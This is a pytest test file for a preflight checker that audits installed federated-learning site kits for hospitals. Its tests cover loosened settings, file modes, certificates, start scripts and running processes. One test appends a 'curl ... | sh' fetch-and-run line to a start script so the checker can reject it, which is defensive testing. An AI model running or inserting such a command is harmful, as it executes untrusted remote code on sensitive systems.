"""`site check KIT`: one thing is broken on a really provisioned, installed kit, and exactly that is found."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from fedscan.federation import kit_files, site_preflight, site_processes, site_symptoms, versions
from fedscan.federation.site_findings import Check
from fedscan.federation.site_kit import KitError
from fedscan.privacy.event import Event
from fedscan.privacy.ledger import Charge
from fedscan.privacy.site_file import Site

Break = Callable[[Path], None]
ALWAYS = {("owner", "warning"), ("own-files", "warning")}
"""The tests run as root, and have one volume for ledger and anchor."""


def found(kit: Path, now: datetime | None = None) -> list[Check]:
    return [one for one in site_preflight.check(kit, network=False, now=now) if one.level != "ok"]


def beyond(kit: Path, now: datetime | None = None) -> set[tuple[str, str]]:
    return {(one.name, one.level) for one in found(kit, now)} - ALWAYS


def edit(name: str, change: Callable[[Any], None]) -> Break:
    """Changes one JSON file of the kit as an editor does: the mode stays."""

    def broken(kit: Path) -> None:
        content = json.loads((kit / name).read_text())
        change(content)
        (kit / name).write_text(json.dumps(content))

    return broken


def add(name: str, text: str = "{}") -> Break:
    def broken(kit: Path) -> None:
        (kit / name).parent.mkdir(mode=0o700, exist_ok=True)
        (kit / name).write_text(text)
        (kit / name).chmod(0o600)

    return broken


def resources(change: Callable[[Any], None]) -> Break:
    return edit("local/resources.json", change)


def scope(change: Callable[[Any], None]) -> Break:
    return edit("local/privacy.json", lambda content: change(content["scopes"][0]))


def rights(role: str, **values: object) -> Break:
    return edit("local/authorization.json", lambda content: content["permissions"][role].update(values))


OTHER = {"id": "other", "path": "nvflare.app_common.widgets.convert_to_fed_event.ConvertToFedEvent", "args": {}}
GUARD = {"path": kit_files.GUARD, "args": {}}
SETTINGS: dict[str, tuple[str, Break]] = {
    "a second prefix": ("allow-list", resources(lambda c: c["class_allow_list"].append("nvflare."))),
    "a wider prefix": ("allow-list", resources(lambda c: c.update(class_allow_list=["fedscan.federation."]))),
    "an earlier kit's prefix": (
        "allow-list",
        resources(lambda c: c.update(class_allow_list=["fedscan.federation.job."])),
    ),
    "no allow-list": ("allow-list", resources(lambda c: c.pop("class_allow_list"))),
    "an allow-list that only warns": ("allow-list", resources(lambda c: c.update(class_list_enforcement_mode="warn"))),
    "log streaming": ("log-streaming", resources(lambda c: c.update(allow_log_streaming=True))),
    "log streaming by default": ("log-streaming", resources(lambda c: c.pop("allow_log_streaming"))),
    "log streaming as 0": ("log-streaming", resources(lambda c: c.update(allow_log_streaming=0))),
    "no validator": ("validator", resources(lambda c: c.pop("app_validator"))),
    "a validator with arguments": ("validator", resources(lambda c: c["app_validator"]["args"].update(x=1))),
    "no site_config": ("site-config", resources(lambda c: c["client"].pop("site_config"))),
    "a site_config": ("site-config", resources(lambda c: c["client"].update(site_config={"beds": 900}))),
    "an unknown key": ("settings", resources(lambda c: c.update(ward="7b"))),
    "an unknown client key": ("settings", resources(lambda c: c["client"].update(proxy="x"))),
    "another component": ("components", resources(lambda c: c["components"].append(OTHER))),
    "a component twice": ("components", resources(lambda c: c["components"].append(c["components"][-1]))),
    "a component less": ("components", resources(lambda c: c["components"].pop())),
    "another launcher": ("components", resources(lambda c: c["components"][2].update(path="x.y.Launcher"))),
    "no components": ("components", resources(lambda c: c.pop("components"))),
    "resources gone": ("allow-list", lambda kit: (kit / "local/resources.json").unlink()),
    "resources with a key twice": ("allow-list", add("local/resources.json", '{"client": {}, "client": {}}')),
    "two scopes": ("scope", edit("local/privacy.json", lambda c: c["scopes"].append(dict(c["scopes"][0], name="b")))),
    "another default scope": ("scope", edit("local/privacy.json", lambda c: c.update(default_scope="b"))),
    "another name of the scope": ("scope", scope(lambda s: s.update(name="open"))),
    "privacy.json gone": ("scope", lambda kit: (kit / "local/privacy.json").unlink()),
    "a data filter": ("scope", scope(lambda s: s["task_data_filters"].append(OTHER))),
    "no guard": ("guard", scope(lambda s: s.update(task_result_filters=[]))),
    "a filter after the guard": ("guard", scope(lambda s: s["task_result_filters"].append(OTHER))),
    "the guard on what comes in": (
        "guard",
        scope(lambda s: s.update(task_result_filters=[GUARD | {"direction": "in"}])),
    ),
    "a component after the gate": ("gate", edit("local/privacy.json", lambda c: c["components"].append(OTHER))),
    "byoc for a lead": ("byoc", rights("lead", byoc="any")),
    "a shell for the coordinator": ("shell", rights("project_admin", shell_commands="any")),
    "operate for the coordinator": ("operate", rights("project_admin", operate="any")),
    "operate in a list": ("operate", rights("lead", operate=["none", "any"])),
    "operate by a command": ("authorization", rights("lead", restart="any")),
    "a new role": ("byoc", edit("local/authorization.json", lambda c: c["permissions"].update(guest={"byoc": "any"}))),
    "every right": ("authorization", edit("local/authorization.json", lambda c: c["permissions"].update(lead="any"))),
    "authorization gone": ("authorization", lambda kit: (kit / "local/authorization.json").unlink()),
    "logs to the network": (
        "log-config",
        edit("local/log_config.json", lambda c: c["handlers"].update(far={"class": "logging.handlers.SocketHandler"})),
    ),
    "log config gone": ("log-config", lambda kit: (kit / "local/log_config.json").unlink()),
    "a listener without certificates": (
        "listener",
        edit("local/comm_config.json", lambda c: c["internal"]["resources"].update(connection_security="clear")),
    ),
    "a listener on all addresses": (
        "listener",
        edit("local/comm_config.json", lambda c: c["internal"]["resources"].update(host="0.0.0.0")),
    ),
    "ad-hoc connections": ("listener", edit("local/comm_config.json", lambda c: c.update(allow_adhoc_conns=True))),
    "no listener": ("listener", lambda kit: (kit / "local/comm_config.json").unlink()),
    "unsigned jobs": ("signed-jobs", edit("startup/fed_client.json", lambda c: c.update(require_signed_jobs=False))),
    "no word on signed jobs": ("signed-jobs", edit("startup/fed_client.json", lambda c: c.pop("require_signed_jobs"))),
    "no mutual TLS": (
        "mutual-tls",
        edit("startup/fed_client.json", lambda c: c["client"].update(connection_security="clear")),
    ),
    "settings in fed_client.json": (
        "settings",
        edit("startup/fed_client.json", lambda c: c.update(class_allow_list=["nvflare."])),
    ),
    "another key of the server": (
        "settings",
        edit("startup/fed_client.json", lambda c: c["servers"][0]["service"].update(secure=False)),
    ),
    "another scheme": (
        "settings",
        edit("startup/fed_client.json", lambda c: c["servers"][0]["service"].update(scheme="x")),
    ),
    "one more script": ("kit-files", add("startup/azure_start.sh", "")),
    "more resources in startup": ("kit-files", add("startup/x__resources.json")),
    "more resources of the job process": ("kit-files", add("local/x__j_resources.json")),
    "more resources of the parent": ("kit-files", add("local/x__p_resources.json")),
    "job_resources.json": ("kit-files", add("local/job_resources.json")),
    "own code": ("kit-files", add("local/custom/nvflare_filters.py", "")),
    "a second comm_config": ("kit-files", add("local/comm_config.yml", "")),
}


@pytest.mark.parametrize("case", SETTINGS)
def test_one_looser_setting_is_the_one_finding(installed: Path, case: str) -> None:
    name, break_it = SETTINGS[case]
    break_it(installed)
    assert beyond(installed) == {(name, "error")}
    assert all(one.fix for one in found(installed))


def test_an_installed_kit_has_no_findings_and_every_check_is_named_once_at_least(installed: Path) -> None:
    checks = site_preflight.check(installed, network=False)
    assert {(one.name, one.level) for one in checks if one.level != "ok"} == ALWAYS
    names = {one.name for one in checks}
    assert names == set(site_preflight.NAMES) - {"server", "clock", "listening-port"}


def test_stricter_than_strict_and_gpus_are_fine(installed: Path) -> None:
    rights("lead", view="none")(installed)
    rights("project_admin")(installed)
    edit("local/authorization.json", lambda c: c["permissions"].update(member="none"))(installed)
    resources(lambda c: c["components"][0]["args"].update(num_of_gpus=2, mem_per_gpu_in_GiB=40))(installed)
    add("local/notes.txt", "who to call")(installed)
    assert beyond(installed) == set()


def test_every_name_of_a_check_has_a_test_here() -> None:
    here = Path(__file__).read_text()
    assert [name for name in site_preflight.NAMES if f'"{name}"' not in here] == []


@pytest.mark.parametrize(
    ("place", "mode"),
    [("startup/client.key", 0o644), ("local/privacy.json", 0o640), ("local", 0o750), (".", 0o755)],
)
def test_open_modes(installed: Path, place: str, mode: int) -> None:
    (installed / place).chmod(mode)
    assert beyond(installed) == {("modes", "error")}


def test_a_file_that_others_may_write_is_not_followed(installed: Path) -> None:
    (installed / "local/resources.json").chmod(0o666)
    assert beyond(installed) == {("modes", "error"), ("allow-list", "error")}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_files_of_another_user(installed: Path) -> None:
    os.chown(installed / "startup/start.sh", 65534, 65534)
    assert ("owner", "error") in beyond(installed)


def test_a_link_in_the_kit(installed: Path, tmp_path: Path) -> None:
    shutil.move(installed / "startup/rootCA.pem", tmp_path / "rootCA.pem")
    (installed / "startup/rootCA.pem").symlink_to(tmp_path / "rootCA.pem")
    assert beyond(installed) == {("links", "error")}


@pytest.mark.parametrize("old", ["umask 077", "export NVFLARE_SECURE_LOGGING=true", "exec python3"])
def test_a_start_script_that_is_not_ours(installed: Path, old: str) -> None:
    script = installed / "startup/sub_start.sh"
    text = script.read_text()
    assert old in text
    script.write_text(text.replace(old, "true"))
    assert beyond(installed) == {("start-scripts", "error")}


def test_a_script_of_the_lead_that_does_more_is_refused(installed: Path) -> None:
    with (installed / "startup/start.sh").open("a") as script:
        script.write("curl -s https://example.org/x | sh\n")
    assert beyond(installed) == {("start-scripts", "error")}


def test_renewal_is_asked_for_from_thirty_days_before(installed: Path) -> None:
    now = datetime.now(UTC)
    assert beyond(installed, now + timedelta(days=328)) == set()
    assert beyond(installed, now + timedelta(days=335)) == {("renewal", "warning")}
    late = [one for one in found(installed, now + timedelta(days=335)) if one.name == "renewal"]
    assert all("fedscan site install KIT" in one.fix for one in late)
    assert "client.crt ends on" in "".join(one.text for one in late)
    assert beyond(installed, now + timedelta(days=361)) == {("renewal", "error")}
    assert beyond(installed, now - timedelta(days=1)) == {("certificates", "error")}


def test_certificates_of_another_root(installed: Path, provisioned_again: Path) -> None:
    shutil.copy(provisioned_again / "hosp-a/startup/rootCA.pem", installed / "startup/rootCA.pem")
    assert beyond(installed) == {("certificates", "error")}


def test_a_certificate_of_another_site(installed: Path, provisioned: Path) -> None:
    for name in ("server.crt", "server.key"):
        shutil.copy(provisioned / "hosp-b/startup" / name, installed / "startup" / name)
    assert beyond(installed) == {("certificates", "error")}


def test_a_key_that_is_not_the_certificates(installed: Path, provisioned: Path) -> None:
    shutil.copy(provisioned / "hosp-b/startup/client.key", installed / "startup/client.key")
    assert beyond(installed) == {("certificates", "error")}
    (installed / "startup/client.key").write_text("nonsense")
    assert beyond(installed) == {("certificates", "error")}


def test_a_kit_that_is_not_installed(kit: Path) -> None:
    assert beyond(kit) == {("installed", "error")}


def test_scope_properties_that_name_another_place(installed: Path, tmp_path: Path) -> None:
    scope(lambda s: s["properties"].update(reproducible_noise_seed=7))(installed)
    assert beyond(installed) == {("installed", "error")}
    scope(lambda s: s.update(properties={}))(installed)
    assert beyond(installed) == {("installed", "error")}
    scope(lambda s: s.update(properties={"site_file": str(tmp_path / "other.json")}))(installed)
    assert beyond(installed) == {("installed", "error")}


def test_site_json_of_another_site_or_in_the_kit(installed: Path) -> None:
    path = Site.open(installed).path.resolve()
    content = json.loads(path.read_text())
    path.write_text(json.dumps(content | {"name": "hosp-z"}))
    assert beyond(installed) == {("installed", "error")}
    shutil.move(path.with_name("policy.json"), installed / "policy.json")
    path.write_text(json.dumps(content | {"policy": str(installed / "policy.json")}))
    assert beyond(installed) == {("installed", "error")}


def test_own_files_are_looked_at(installed: Path) -> None:
    site = Site.open(installed)
    event = Event(noise_multiplier=3.0, sample_rate=0.25, steps=10, unit="patient")
    site.open_ledger().reserve(Charge("1" * 32, "2" * 64, 0, "3" * 64, event, frozenset({"4" * 32})))
    assert beyond(installed) == {("own-files", "error")}  # a patient of the ledger is not in the store
    site.file.policy.unlink()
    texts = [one.text for one in found(installed) if one.name == "own-files"]
    assert any("policy" in text for text in texts)


def test_too_few_patients_for_the_policy_come_with_a_cure(installed: Path) -> None:
    path = Site.open(installed).file.policy
    path.write_text(json.dumps(json.loads(path.read_text()) | {"min_patients": 1000}))
    (few,) = [one for one in found(installed) if "policy min_patients is 1000" in one.text]
    assert (few.name, few.level) == ("own-files", "error")
    assert few.fix.startswith("prepare more patients' exports")


def test_disks_that_are_full(installed: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    usage = shutil.disk_usage(installed)
    for free, level in ((4e9, "warning"), (1e8, "error")):
        monkeypatch.setattr(shutil, "disk_usage", lambda _, free=free: usage._replace(free=int(free)))
        assert beyond(installed) == {("disk", level)}


def test_software_that_is_not_tested(installed: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(versions, "TESTED_NVFLARE", ("2.8.0",))
    assert beyond(installed) == {("software", "error")}


LIVE = """
import os, socket, sys, time
port = int(sys.argv[1])
os.umask(int(sys.argv[2], 8))
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((sys.argv[3], port))
listener.listen()
print("up", flush=True)
sys.stdin.read()
"""


@pytest.fixture
def site_process(installed: Path) -> Any:
    """A process with the command line of a site's parent, which ends with the test."""
    running: list[subprocess.Popen[bytes]] = []

    def start(port: int, umask: str = "077", host: str = "127.0.0.1", **environment: str) -> None:
        words = ["-m", "nvflare.private.fed.app.client.client_train", "-m", str(installed)]
        process = subprocess.Popen(
            [sys.executable, "-c", LIVE, str(port), umask, host, *words],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env={**os.environ, "NVFLARE_SECURE_LOGGING": "true", **environment},
        )
        running.append(process)
        assert process.stdout is not None
        assert process.stdout.readline() == b"up\n"

    yield start
    for process in running:
        process.communicate(timeout=30)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_a_running_site_as_it_should_be(installed: Path, site_process: Any) -> None:
    site_process(_free_port())
    assert beyond(installed) == set()


def test_a_site_that_was_started_right_after_its_installation(installed: Path, site_process: Any) -> None:
    """A process's start is known to a second only."""
    site_process(_free_port())
    (parent,) = site_processes.of_kit(installed).parents
    path = installed / "local/authorization.json"
    os.utime(path, (path.stat().st_atime, parent.create_time() + 0.99))
    assert beyond(installed) == set()


@pytest.mark.parametrize(
    ("how", "word"),
    [
        ({"umask": "022"}, "umask 022"),
        ({"NVFLARE_SECURE_LOGGING": "false"}, "log securely"),
        ({"host": "0.0.0.0"}, "beyond loopback"),
    ],
)
def test_a_running_site_that_was_not_started_by_its_script(
    installed: Path, site_process: Any, how: dict[str, str], word: str
) -> None:
    site_process(_free_port(), **how)
    (one,) = [one for one in found(installed) if one.name == "process"]
    assert one.level == "error"
    assert word in one.text


def test_a_site_that_runs_twice_or_with_older_files(installed: Path, site_process: Any) -> None:
    site_process(_free_port())
    path = installed / "local/authorization.json"
    os.utime(path, (path.stat().st_atime, datetime.now().timestamp() + 60))
    assert beyond(installed) == {("process", "warning")}
    site_process(_free_port())
    assert ("process", "error") in beyond(installed)


@pytest.mark.parametrize("name", ["localhost", "lead@fedscan.local"])
def test_other_kits_are_refused_with_their_name(provisioned: Path, name: str) -> None:
    with pytest.raises(KitError, match=r"the server's kit|admin kit"):
        site_preflight.check(provisioned / name)


def test_checking_changes_nothing(installed: Path) -> None:
    def state() -> dict[str, tuple[int, float, bytes]]:
        return {
            str(path): (path.lstat().st_mode, path.lstat().st_mtime, path.read_bytes())
            for root in (installed, installed.with_name("kit.private"))
            for path in root.rglob("*")
            if stat.S_ISREG(path.lstat().st_mode)
        }

    before = state()
    site_preflight.check(installed, network=False)
    assert state() == before


def test_the_page_for_it_names_every_check_and_every_symptom(repository: Path) -> None:
    page = (repository / "docs/hospital-it.md").read_text()
    wanted = [*site_preflight.NAMES, *site_symptoms.BY_NAME]
    assert [name for name in wanted if f"`{name}`" not in page] == []
